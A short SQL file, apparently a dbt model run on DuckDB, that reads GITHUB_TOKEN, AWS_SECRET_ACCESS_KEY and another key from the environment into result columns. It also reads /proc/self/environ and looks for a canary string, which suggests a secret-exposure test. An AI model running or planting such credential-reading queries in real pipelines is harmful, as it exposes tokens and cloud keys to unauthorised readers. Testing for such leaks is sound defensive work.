select
    '{{ env_var("GITHUB_TOKEN", "absent") }}' as token,
    '{{ env_var("AWS_SECRET_ACCESS_KEY", "absent") }}' as aws_key,
    '{{ env_var("INPUT_STORE_KEY", "absent") }}' as input,
    strpos(content, 'canary-') > 0 as seen
from read_text('/proc/self/environ')
